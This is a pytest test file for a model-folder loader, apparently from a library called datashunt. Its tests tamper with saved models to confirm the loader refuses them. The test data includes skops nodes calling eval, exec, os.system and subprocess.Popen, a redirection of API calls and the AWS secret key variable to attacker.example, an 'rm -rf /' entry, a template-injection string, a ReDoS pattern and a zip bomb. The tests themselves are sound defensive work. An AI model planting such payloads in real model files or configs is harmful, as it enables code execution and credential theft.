"""A saved model folder is data: it never runs code, never decides where texts or keys go.

The malicious folders are built here, from a real saved shunt, the way an attacker would edit one.
"""

import json
import re
import zipfile

import numpy as np
import pandas as pd
import pytest
from fakes import FakeOpenAIServer
from typer.testing import CliRunner

from datashunt import ShuntClassifier
from datashunt.backends.llama_cpp import LlamaCppModel
from datashunt.backends.openai_chat import OpenAIChatModel
from datashunt.backends.prompt import Prompt
from datashunt.backends.replay import ReplayModel
from datashunt.cli import app
from datashunt.exceptions import ConfigError, ModelFileError
from datashunt.io.persist import load, save
from datashunt.small import make_small

ANSWERS = {"": [("positive", -0.1), ("negative", -2.5)]}
MINE = {"model": "tiny", "base_url": "http://127.0.0.1:9/v1", "api_key_env": "TEST_KEY"}


@pytest.fixture
def folder(tmp_path, sentiment):
    """A real saved shunt whose large model is an OpenAI-compatible endpoint on loopback."""
    texts, labels = sentiment
    large = OpenAIChatModel(
        "tiny", base_url="http://127.0.0.1:9/v1", api_key_env="TEST_KEY", prompt=Prompt("Positive?")
    )
    shunt = ShuntClassifier(make_small("tfidf"), large, threshold=0.7, random_state=0).fit(texts[:400], labels[:400])
    return save(shunt, tmp_path / "model")


def _json(value, node_id):
    return {
        "__class__": "str",
        "__module__": "builtins",
        "__loader__": "JsonNode",
        "content": json.dumps(value),
        "is_json": True,
        "__id__": node_id,
    }


def _call(module, name, args):
    """A skops node that, if built, calls ``module.name(*args)``."""
    content = [
        _json(a, 9000 + i)
        if isinstance(a, str)
        else {
            "__class__": "list",
            "__module__": "builtins",
            "__loader__": "ListNode",
            "__id__": 9100 + i,
            "content": [_json(x, 9200 + j) for j, x in enumerate(a)],
        }
        for i, a in enumerate(args)
    ]
    return {
        "__class__": name,
        "__module__": module,
        "__loader__": "ConstructorFromReduceNode",
        "__id__": 9999,
        "content": {
            "__class__": "tuple",
            "__module__": "builtins",
            "__loader__": "TupleNode",
            "__id__": 9998,
            "content": content,
        },
    }


def _inject(path, node):
    """Rewrite a skops file with ``node`` hidden among the root object's attributes."""
    with zipfile.ZipFile(path) as zf:
        members = {name: zf.read(name) for name in zf.namelist()}
    schema = json.loads(members["schema.json"])
    schema["content"]["content"]["payload"] = node
    members["schema.json"] = json.dumps(schema).encode()
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in members.items():
            zf.writestr(name, data)


def _payloads(tmp_path):
    marker = tmp_path / "pwned"
    victim = tmp_path / "victim.txt"
    evil_module = tmp_path / "evil_module.py"
    evil_module.write_text(f"open({str(marker)!r}, 'w').close()\n")
    touch = f"open({str(marker)!r}, 'w').close()"
    return (
        marker,
        victim,
        {
            "builtins.eval": _call("builtins", "eval", [touch]),
            "builtins.exec": _call("builtins", "exec", [touch]),
            "builtins.open": _call("builtins", "open", [str(victim), "w"]),
            "os.system": _call("os", "system", [f"touch {marker}"]),
            "subprocess.Popen": _call("subprocess", "Popen", [["touch", str(marker)]]),
            "importlib.import_module": _call("importlib", "import_module", ["evil_module"]),
        },
    )


@pytest.mark.parametrize(
    "attack",
    ["builtins.eval", "builtins.exec", "builtins.open", "os.system", "subprocess.Popen", "importlib.import_module"],
)
@pytest.mark.parametrize("member", ["stage_0.skops", "learnable.skops"])
def test_load_refuses_a_skops_file_that_would_run_code(folder, tmp_path, monkeypatch, attack, member):
    marker, victim, payloads = _payloads(tmp_path)
    victim.write_text("precious")
    monkeypatch.syspath_prepend(str(tmp_path))
    if member == "learnable.skops":  # the 2CD copy of the small model is loaded the same way
        (folder / member).write_bytes((folder / "stage_0.skops").read_bytes())
        meta = json.loads((folder / "model.json").read_text())
        meta["learned"]["distillation"] = {"n_pool": 1}  # as a distilled model says
        (folder / "model.json").write_text(json.dumps(meta))
    _inject(folder / member, payloads[attack])
    with pytest.raises(
        ModelFileError,
        match=rf"{member} contains types that are not trusted: \['{attack}'\]; "
        "nothing was loaded",
    ):
        load(folder, large_options=MINE)
    assert not marker.exists()
    assert victim.read_text() == "precious"


def test_trusted_types_are_exactly_what_datashunt_writes():
    from datashunt.io.persist import TRUSTED_TYPES

    assert all(t.startswith("datashunt.small.") and t.count(".") == 3 for t in TRUSTED_TYPES)
    assert not any(t.startswith(("builtins", "os", "subprocess", "importlib")) for t in TRUSTED_TYPES)


def _tamper(folder, edit):
    meta = json.loads((folder / "model.json").read_text())
    edit(meta)
    (folder / "model.json").write_text(json.dumps(meta))


def test_a_folder_cannot_choose_the_endpoint_or_the_key_variable(folder, monkeypatch):
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "aws-secret")

    def redirect(meta):
        meta["stages"][1]["options"].update(base_url="http://attacker.example/v1", api_key_env="AWS_SECRET_ACCESS_KEY")

    _tamper(folder, redirect)
    with pytest.raises(
        ConfigError,
        match=r"uses model='tiny', base_url='http://attacker.example/v1', "
        r"api_key_env='AWS_SECRET_ACCESS_KEY'\. A loaded model takes where its "
        "calls go only from you",
    ):
        load(folder)
    mine = load(folder, large_options={**MINE, "base_url": "http://127.0.0.1:8/v1"})
    assert (mine.large_.base_url, mine.large_.api_key_env) == ("http://127.0.0.1:8/v1", "TEST_KEY")
    trusted = load(folder, trust_saved_locations=True)
    assert trusted.large_.base_url == "http://attacker.example/v1"


def test_a_folder_cannot_choose_the_cache_a_replay_table_or_a_gguf_path(tmp_path, sentiment):
    texts, labels = sentiment
    pd.DataFrame({"id": texts, "prediction": labels}).to_csv(tmp_path / "answers.csv", index=False)
    replay = ShuntClassifier(make_small("tfidf"), ReplayModel(str(tmp_path / "answers.csv")), threshold=0.7)
    folder = save(replay.fit(texts, labels), tmp_path / "replay")
    with pytest.raises(ConfigError, match=r"uses table=.*answers.csv'"):
        load(folder)
    assert load(folder, large_options={"table": str(tmp_path / "answers.csv")}).route(texts[:5])["flag"].isna().all()

    local = ShuntClassifier(make_small("tfidf"), LlamaCppModel("smollm2-135m"), threshold=0.7).fit(texts, labels)
    folder = save(local, tmp_path / "local")
    assert load(folder).large_.model == "smollm2-135m"  # a model installed by name is not a location

    def point_elsewhere(meta):
        meta["stages"][1]["options"].update(model="/home/someone/evil.gguf", cache=str(tmp_path / "planted.sqlite"))

    _tamper(folder, point_elsewhere)
    with pytest.raises(ConfigError, match="uses model='/home/someone/evil.gguf'"):
        load(folder)
    loaded = load(folder, large_options={"model": "smollm2-135m"})
    assert loaded.large_.cache is True and not (tmp_path / "planted.sqlite").exists()


def test_cli_sends_calls_where_the_config_says_and_says_so_first(folder, tmp_path, monkeypatch):
    monkeypatch.setenv("TEST_KEY", "sk-mine")

    def redirect(meta):
        meta["stages"][1]["options"]["base_url"] = attacker.base_url

    pd.DataFrame({"text": ["a so-so movie", "fine okay movie"]}).to_csv(tmp_path / "new.csv", index=False)
    with FakeOpenAIServer(ANSWERS) as attacker, FakeOpenAIServer(ANSWERS) as mine:
        _tamper(folder, redirect)
        config = tmp_path / "run.toml"
        config.write_text(
            f'[large]\nbackend = "openai"\nmodel = "tiny"\nbase_url = "{mine.base_url}"\n'
            f'api_key_env = "TEST_KEY"\n[output]\ndir = "{tmp_path}"\n'
        )
        runner = CliRunner(env={"COLUMNS": "200"})
        result = runner.invoke(
            app,
            [
                "predict",
                str(config),
                "-i",
                str(tmp_path / "new.csv"),
                "-o",
                str(tmp_path / "out.csv"),
                "--model",
                str(folder),
            ],
        )
        assert result.exit_code == 0, result.output
        assert result.output.startswith(
            f"large model: model 'tiny' at {mine.base_url} (OpenAI-compatible HTTP), API key from $TEST_KEY"
        )
        assert attacker.requests == [] and len(mine.requests) == 2
        assert {r["auth"] for r in mine.requests} == {"Bearer sk-mine"}

        config.write_text(f'[large]\nbackend = "openai"\nmodel = "tiny"\n[output]\ndir = "{tmp_path}"\n')
        refused = runner.invoke(
            app,
            [
                "predict",
                str(config),
                "-i",
                str(tmp_path / "new.csv"),
                "-o",
                str(tmp_path / "out.csv"),
                "--model",
                str(folder),
            ],
        )
        assert refused.exit_code == 2
        assert "A loaded model takes where its calls go only from you" in " ".join(refused.output.split())
        assert attacker.requests == []


@pytest.mark.parametrize(
    "edit, message",
    [
        (lambda m: m.pop("thresholds"), r"missing key\(s\) \['thresholds'\]"),
        (lambda m: m.update(run="rm -rf /"), r"unknown key\(s\) \['run'\]"),
        (lambda m: m["params"].pop("match_z"), r"missing key\(s\) \['params.match_z'\]"),
        (lambda m: m["stages"][1].update(command="x"), r"unknown key\(s\) \['stages\[1\].command'\]"),
        (lambda m: m.update(thresholds="0.7"), r"thresholds has the wrong type \(str\)"),
        (lambda m: m.update(thresholds=[True]), r"thresholds must be 1 numbers, each within \[0, 1\] .* got \[True\]"),
        (
            lambda m: m.update(kind="os.system"),
            r"kind must be one of \['Cascade', 'ShuntClassifier', 'ShuntGenerator'\]",
        ),
        (lambda m: m["stages"].reverse(), r"a ShuntClassifier has the stages \[\('small', 'trainable'\)"),
        (lambda m: m["stages"][0].update(kind="python"), r"stages\[0\] must be a trainable model or a backend"),
        (lambda m: m["params"].update(match_z="2"), r"'match_z' parameter of ShuntClassifier must be a float"),
        (lambda m: m["params"].update(label_names=["a", "b"]), r"'label_names' parameter of ShuntClassifier must be"),
        (
            lambda m: m["classes"].reverse() or m["learned"]["class_report"]["class"].reverse(),
            r"classes \['positive', 'negative'\] differ from the small model's \['negative', 'positive'\]",
        ),
        (lambda m: m.update(classes=m["classes"] + ["neutral"]), r"class_report does not describe the saved classes"),
        (lambda m: m["stages"][1]["options"].update(timeout="abc"), r"'timeout' parameter of OpenAIChatModel"),
        (
            lambda m: m["stages"][1]["options"]["prompt"].update(template="{text.__class__.__init__}"),
            r"prompt template field '\{text.__class__.__init__\}' is not allowed",
        ),
        (lambda m: m["stages"][1].update(backend="shell"), r"unknown large backend 'shell'"),
    ],
)
def test_tampered_metadata_is_refused_with_a_clear_message(folder, edit, message):
    _tamper(folder, edit)
    with pytest.raises((ModelFileError, ConfigError), match=message):
        load(folder, large_options=MINE)


def test_a_sweep_that_is_not_a_sweep_is_refused(folder):
    (folder / "sweep.csv").write_text("a,b\n1,2\n")
    with pytest.raises(ModelFileError, match="is not a threshold sweep"):
        load(folder, trust_saved_locations=True)


def _replace_small(folder, model):
    import skops.io

    skops.io.dump(model, folder / "stage_0.skops")


@pytest.mark.parametrize(
    "setting, value",
    [
        ("memory", "/tmp/somewhere"),  # joblib would write every text there, and unpickle what it finds there
        ("tfidf__input", "filename"),  # every "text" would be opened as a file path
        ("tfidf__token_pattern", r"(\w+\s?)+$"),  # catastrophic backtracking: hours per sentence
        ("tfidf__preprocessor", np.negative),  # a ufunc skops trusts: any function is code, not a setting
    ],
)
def test_a_small_model_whose_settings_reach_outside_is_refused(folder, sentiment, setting, value):
    texts, labels = sentiment
    _replace_small(folder, make_small("tfidf").fit(texts[:400], labels[:400]).set_params(**{setting: value}))
    with pytest.raises(ModelFileError, match=rf"the small model's setting {setting}=.* is not allowed in a loaded"):
        load(folder, large_options=MINE)


def test_a_torch_model_state_is_data_only(folder, sentiment, monkeypatch):
    from datashunt.small.textcnn import TextCNNClassifier

    texts, labels = sentiment
    model = TextCNNClassifier(epochs=1, embedding_dim=8, n_filters=4).fit(texts[:400], labels[:400])
    model.n_threads = 10**7
    _replace_small(folder, model)
    with pytest.raises(ModelFileError, match=r"'n_threads' parameter of TextCNNClassifier must be an int in the range"):
        load(folder, large_options=MINE)
    model.n_threads = None
    model.__dict__["predict_proba"] = "replaced"
    _replace_small(folder, model)
    with pytest.raises(ModelFileError, match=r"state has unexpected attribute\(s\) \['predict_proba'\]"):
        load(folder, large_options=MINE)


def test_a_zip_bomb_and_pathological_json_are_refused_as_corrupt(folder):
    good = (folder / "model.json").read_text()
    (folder / "model.json").write_text("[" * 50_000 + "]" * 50_000)
    with pytest.raises(ModelFileError, match="model.json is corrupt"):
        load(folder, large_options=MINE)
    (folder / "model.json").write_text('{"format": ' + "9" * 5000 + "}")
    with pytest.raises(ModelFileError, match="model.json is corrupt"):
        load(folder, large_options=MINE)
    (folder / "model.json").write_text(good)
    with zipfile.ZipFile(folder / "stage_0.skops", "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("schema.json", "{}")
        zf.writestr("bomb.npy", b"\0" * (200 << 20))
    with pytest.raises(ModelFileError, match="compressed beyond any real model"):
        load(folder, large_options=MINE)


@pytest.mark.parametrize(
    "edit, message",
    [
        (lambda m: m["stages"][1]["options"].update(price={"per_call": "x"}), "The 'price' parameter is invalid"),
        (lambda m: m["stages"][1]["options"].update(max_concurrency=10**6), "'max_concurrency' parameter"),
        (lambda m: m["stages"][1]["options"]["prompt"].update(instruction="x" * 200_000), "at most 100,000 are sent"),
        (
            lambda m: m["learned"]["class_report"].update(excels=["no", "no"]),
            "class_report holds values of the wrong type",
        ),
        (lambda m: m.update(format=True), "unsupported format True"),
        (lambda m: m["params"].update(label_names={"positive": ["x"]}), "label names must be strings"),
    ],
)
def test_settings_that_pass_the_type_check_are_still_bounded(folder, edit, message):
    _tamper(folder, edit)
    with pytest.raises((ModelFileError, ConfigError), match=message):
        load(folder, large_options=MINE)


def test_trusting_the_folder_fills_in_only_what_the_config_leaves_out(folder, tmp_path, monkeypatch):
    monkeypatch.setenv("TEST_KEY", "sk-mine")
    _tamper(folder, lambda m: m["stages"][1]["options"].update(base_url="http://127.0.0.1:7/v1"))
    pd.DataFrame({"text": ["fine"]}).to_csv(tmp_path / "new.csv", index=False)
    config = tmp_path / "run.toml"
    args = [
        "predict",
        str(config),
        "-i",
        str(tmp_path / "new.csv"),
        "-o",
        str(tmp_path / "out.csv"),
        "--model",
        str(folder),
        "--trust-model-locations",
    ]
    runner = CliRunner(env={"COLUMNS": "200"})
    for base_url, expected in [
        ('base_url = "http://127.0.0.1:9/v1"\n', "http://127.0.0.1:9/v1"),
        ("", "http://127.0.0.1:7/v1"),
    ]:
        config.write_text(
            f'[large]\nbackend = "openai"\nmodel = "tiny"\n{base_url}api_key_env = "TEST_KEY"\n'
            f'[shunt]\nthreshold = 0.5\n[output]\ndir = "{tmp_path}"\n'
        )
        result = runner.invoke(app, args)
        assert result.exit_code == 0, result.output
        assert f"large model: model 'tiny' at {expected} " in result.output
    assert "note: [shunt] threshold = 0.5 applies when fitting; the saved model has 0.7" in result.output


# -- everything reachable from a loaded model is checked, not only what get_params shows ----------
def _fitted_tfidf(sentiment, **settings):
    texts, labels = sentiment
    return make_small("tfidf").fit(texts[:400], labels[:400]).set_params(**settings)


@pytest.mark.parametrize("setting, value", [("input", "filename"), ("token_pattern", "(a+)+$")])
def test_a_model_hidden_in_fitted_attributes_is_checked_like_the_rest(folder, sentiment, setting, value):
    from sklearn.ensemble import VotingClassifier

    texts, labels = sentiment
    voting = VotingClassifier([("words", make_small("tfidf"))], voting="soft").fit(texts[:400], labels[:400])
    voting.estimators_[0].set_params(**{f"tfidf__{setting}": value})  # the fitted copy, not the one in the params
    assert voting.get_params(deep=True)[f"words__tfidf__{setting}"] != value
    _replace_small(folder, voting)
    with pytest.raises(
        ModelFileError,
        match=rf"stage_0.skops: the small model's setting estimators_\[0\]__tfidf__"
        rf"{setting}={re.escape(repr(value))} is not allowed in a loaded model",
    ):
        load(folder, large_options=MINE, trusted=["sklearn.utils._bunch.Bunch"])


def test_a_model_inside_a_calibrated_classifier_is_checked_like_the_rest(folder, sentiment):
    from sklearn.calibration import CalibratedClassifierCV

    texts, labels = sentiment
    calibrated = CalibratedClassifierCV(make_small("tfidf"), cv=2).fit(texts[:400], labels[:400])
    calibrated.calibrated_classifiers_[1].estimator.set_params(memory=str(folder))
    _replace_small(folder, calibrated)
    with pytest.raises(
        ModelFileError,
        match=r"setting calibrated_classifiers_\[1\]\.estimator__memory='.*model' is "
        "not allowed",
    ):
        load(
            folder,
            large_options=MINE,
            trusted=["sklearn.calibration._CalibratedClassifier", "sklearn.calibration._SigmoidCalibration"],
        )


def test_a_model_nested_beyond_any_real_one_is_refused(folder, sentiment):
    from datashunt.io.checks import MAX_NESTING

    model = _fitted_tfidf(sentiment)
    deep = []
    for _ in range(MAX_NESTING + 5):
        deep = [deep]
    model[-1].notes_ = deep
    _replace_small(folder, model)
    with pytest.raises(
        ModelFileError,
        match=rf"stage_0.skops: the small model nests objects more than {MAX_NESTING} "
        r"levels deep \(at clf__notes_\[0\]",
    ):
        load(folder, large_options=MINE)


def test_a_function_among_the_fitted_attributes_is_refused(folder, sentiment):
    model = _fitted_tfidf(sentiment)
    model[-1].hooks_ = {"before": np.negative}
    _replace_small(folder, model)
    with pytest.raises(
        ModelFileError,
        match=r"setting clf__hooks_\['before'\]=<ufunc 'negative'> is not allowed in a "
        r"loaded model \(a saved model holds data, not functions; if you know "
        r"numpy.negative and trust the file, pass trusted=\['numpy.negative'\]\)",
    ):
        load(folder, large_options=MINE)


def test_a_function_the_caller_trusts_by_name_loads(folder, sentiment):
    _replace_small(folder, _fitted_tfidf(sentiment, tfidf__preprocessor=np.negative))
    with pytest.raises(ModelFileError, match=r"setting tfidf__preprocessor=<ufunc 'negative'> is not allowed"):
        load(folder, large_options=MINE, trusted=["numpy.positive"])
    assert load(folder, large_options=MINE, trusted=["numpy.negative"]).small_[0].preprocessor is np.negative


def test_a_model_missing_one_of_its_settings_is_refused_as_incomplete(folder, sentiment):
    model = _fitted_tfidf(sentiment)
    del model[-1].C
    _replace_small(folder, model)
    with pytest.raises(
        ModelFileError,
        match=r"stage_0.skops: the small model is incomplete \('LogisticRegression' "
        r"object has no attribute 'C'\); it was not written by datashunt",
    ):
        load(folder, large_options=MINE)


# -- label names, thresholds and drift references are what fit writes ---------------------------------
@pytest.mark.parametrize(
    "names, message",
    [
        (
            {"positive": "negative", "negative": "positive"},
            "label_names gives class 'negative' the word 'positive', the name of class 'positive'",
        ),
        (
            {"positive": "Negative"},
            "label_names gives class 'positive' the word 'Negative', the name of class 'negative'",
        ),
        (
            {"positive": "good", "neutral": "meh"},
            r"label_names does not match the classes .*\['neutral'\] are not classes",
        ),
    ],
)
def test_label_names_that_do_not_match_the_classes_are_refused(folder, names, message):
    _tamper(folder, lambda m: m["params"].update(label_names=names))
    with pytest.raises(ModelFileError, match=rf"model.json: {message}"):
        load(folder, large_options=MINE)


def test_label_names_that_match_the_classes_load(folder):
    _tamper(folder, lambda m: m["params"].update(label_names={"positive": "good", "negative": "bad"}))
    assert load(folder, large_options=MINE).labels_ == ["bad", "good"]


@pytest.mark.parametrize("threshold", [-5, 1.5, 1e308, 10**400, float("nan")])
def test_a_threshold_no_confidence_can_reach_is_refused(folder, threshold):
    _tamper(folder, lambda m: m.update(thresholds=[threshold]))
    with pytest.raises(
        ModelFileError,
        match=r"model.json: thresholds must be 1 numbers, each within \[0, 1\] \(the range of "
        r"the confidence\) or ±Infinity",
    ):
        load(folder, large_options=MINE)


@pytest.mark.parametrize("threshold", [float("inf"), float("-inf"), 0, 1])
def test_a_threshold_fit_can_write_loads(folder, threshold):
    _tamper(folder, lambda m: m.update(thresholds=[threshold]))
    assert load(folder, large_options=MINE).threshold_ == threshold


@pytest.mark.parametrize(
    "reference",
    [
        "garbage",
        {"n": 10**400, "sent_on": 0, "edges": [], "counts": [10**400]},
        {"n": 3, "sent_on": 1, "edges": [0.2, 10**400], "counts": [1, 1, 1]},
        {"n": 3, "sent_on": 1, "edges": [0.5], "counts": [1, 1]},
        {"n": 2, "sent_on": 1, "edges": [0.5], "counts": [1, 1], "threshold": "0.5"},
        {"n": 2, "sent_on": 1, "edges": [0.5], "counts": [1, 1], "command": "x"},
    ],
)
def test_a_drift_reference_unlike_what_fit_writes_is_refused(folder, reference):
    _tamper(folder, lambda m: m["calibration"].update(drift_reference=reference))
    with pytest.raises(ModelFileError, match="model.json: calibration.drift_reference is not a drift reference"):
        load(folder, large_options=MINE)


# -- every file is bounded by size before it is read ------------------------------------------------
@pytest.mark.parametrize("member", ["model.json", "sweep.csv", "stage_0.skops"])
def test_a_huge_file_is_refused_unread(folder, member):
    from datashunt.io.checks import MAX_META_BYTES, MAX_MODEL_BYTES

    size = (MAX_MODEL_BYTES if member.endswith(".skops") else 32 * MAX_META_BYTES) + 1
    if member == "sweep.csv":
        (folder / member).write_text("threshold_1,accuracy,cost,last_rate\n0.5,0.9,0.0,0.1\n")
    with open(folder / member, "r+b") as f:  # sparse: costs no disk
        f.truncate(size)
    with pytest.raises(
        ModelFileError,
        match=rf"{member} is {size:,} bytes, more than the "
        rf"{MAX_MODEL_BYTES if member.endswith('.skops') else MAX_META_BYTES:,} "
        "a saved model's file of this kind may hold; refused unread",
    ):
        load(folder, large_options=MINE)


def test_a_fifo_in_place_of_a_file_is_refused_without_waiting(folder):
    import os

    os.mkfifo(folder / "sweep.csv")
    with pytest.raises(ModelFileError, match="sweep.csv is not a regular file; refused unread"):
        load(folder, large_options=MINE)


# -- a backend's resources and model come from the caller --------------------------------------------
@pytest.fixture
def generator_folder(tmp_path):
    """A real saved generator shunt: a local model first, an OpenAI-compatible endpoint last."""
    from datashunt import ShuntGenerator
    from datashunt.backends.generate.llama_cpp import LlamaCppGenerator
    from datashunt.backends.generate.openai_chat import OpenAIChatGenerator

    stages = [
        ("small", LlamaCppGenerator("smollm2-135m", instruction="Translate.", shots=1)),
        ("large", OpenAIChatGenerator("tiny", base_url="http://127.0.0.1:9/v1", instruction="Translate.")),
    ]
    items = [f"item {i}" for i in range(20)]
    shunt = ShuntGenerator(stages, thresholds=[0.5], metric="exact_match").fit(items, [f"Ding {i}" for i in range(20)])
    return save(shunt, tmp_path / "generator")


GENERATOR_MINE = {"large": {"model": "tiny", "base_url": "http://127.0.0.1:9/v1"}}


@pytest.mark.parametrize(
    "member, limit",
    [("model.json", "MAX_META_BYTES"), ("sweep.csv", "MAX_META_BYTES"), ("stage_0_state.npz", "MAX_MODEL_BYTES")],
)
def test_a_huge_file_in_a_generator_folder_is_refused_unread(generator_folder, member, limit):
    from datashunt.io import checks

    assert load(generator_folder, large_options=GENERATOR_MINE).stages_[0][1].memory_ is not None
    limit = getattr(checks, limit)
    with open(generator_folder / member, "a+b") as f:  # sparse: costs no disk
        f.truncate(limit + 1)
    with pytest.raises(ModelFileError, match=rf"{member} is {limit + 1:,} bytes, more than the {limit:,}"):
        load(generator_folder, large_options=GENERATOR_MINE)


def _tamper_stage(folder, stage, **options):
    meta = json.loads((folder / "model.json").read_text())
    meta["stages"][stage]["options"].update(options)
    (folder / "model.json").write_text(json.dumps(meta))


@pytest.mark.parametrize(
    "stage, setting, value, bound",
    [
        (0, "n_ctx", 131072, "at most 32,768 tokens"),
        (0, "n_threads", "cpus + 1", "at most this machine's"),
        (1, "max_concurrency", 1000, "at most 64"),
    ],
)
def test_a_generator_folder_cannot_choose_what_a_stage_takes_of_this_machine(
    generator_folder, stage, setting, value, bound
):
    import os

    value = (os.cpu_count() or 1) + 1 if value == "cpus + 1" else value
    _tamper_stage(generator_folder, stage, **{setting: value})
    name = ["small", "large"][stage]
    with pytest.raises(
        ModelFileError,
        match=rf"model.json \(stage '{name}'\) asks for {setting}={value} "
        rf"\({bound}.*\): a loaded model takes what it may spend of this machine "
        rf"within these bounds only. If you want it, pass large_options="
        rf"\{{'{name}': \{{'{setting}': {value}\}}\}}",
    ):
        load(generator_folder, large_options=GENERATOR_MINE)
    mine = {**GENERATOR_MINE, name: {**GENERATOR_MINE.get(name, {}), setting: value}}
    assert getattr(load(generator_folder, large_options=mine).stages_[stage][1], setting) == value


def test_a_generator_folder_cannot_choose_a_stages_model_file(generator_folder):
    _tamper_stage(generator_folder, 0, model="/home/someone/evil.gguf")
    with pytest.raises(
        ConfigError,
        match=r"uses model='/home/someone/evil.gguf'\. A loaded model takes where its "
        "calls go only from you",
    ):
        load(generator_folder, large_options=GENERATOR_MINE)
    _tamper_stage(generator_folder, 1, model="other")
    with pytest.raises(ConfigError, match=r"uses model='other'"):
        load(generator_folder, large_options={"small": {"model": "smollm2-135m"}})


@pytest.mark.parametrize("thresholds", [[-5], [float("nan")], [1e308], [0.5, 0.5], ["0.5"]])
def test_generator_thresholds_no_confidence_can_reach_are_refused(generator_folder, thresholds):
    meta = json.loads((generator_folder / "model.json").read_text())
    meta["thresholds"] = thresholds
    (generator_folder / "model.json").write_text(json.dumps(meta))
    with pytest.raises(ModelFileError, match=r"model.json: thresholds must be 1 numbers, each within \[0, 1\]"):
        load(generator_folder, large_options=GENERATOR_MINE)


def test_a_shunt_folder_cannot_choose_the_context_of_its_local_model(tmp_path, sentiment):
    texts, labels = sentiment
    local = ShuntClassifier(make_small("tfidf"), LlamaCppModel("smollm2-135m"), threshold=0.7).fit(texts, labels)
    folder = save(local, tmp_path / "local")
    _tamper(folder, lambda m: m["stages"][1]["options"].update(n_ctx=1 << 20))
    with pytest.raises(
        ModelFileError,
        match=r"model.json asks for n_ctx=1048576 \(at most 32,768 tokens\): .* If "
        r"you want it, pass large_options=\{'n_ctx': 1048576\}",
    ):
        load(folder)
    assert load(folder, large_options={"n_ctx": 1 << 20}).large_.n_ctx == 1 << 20
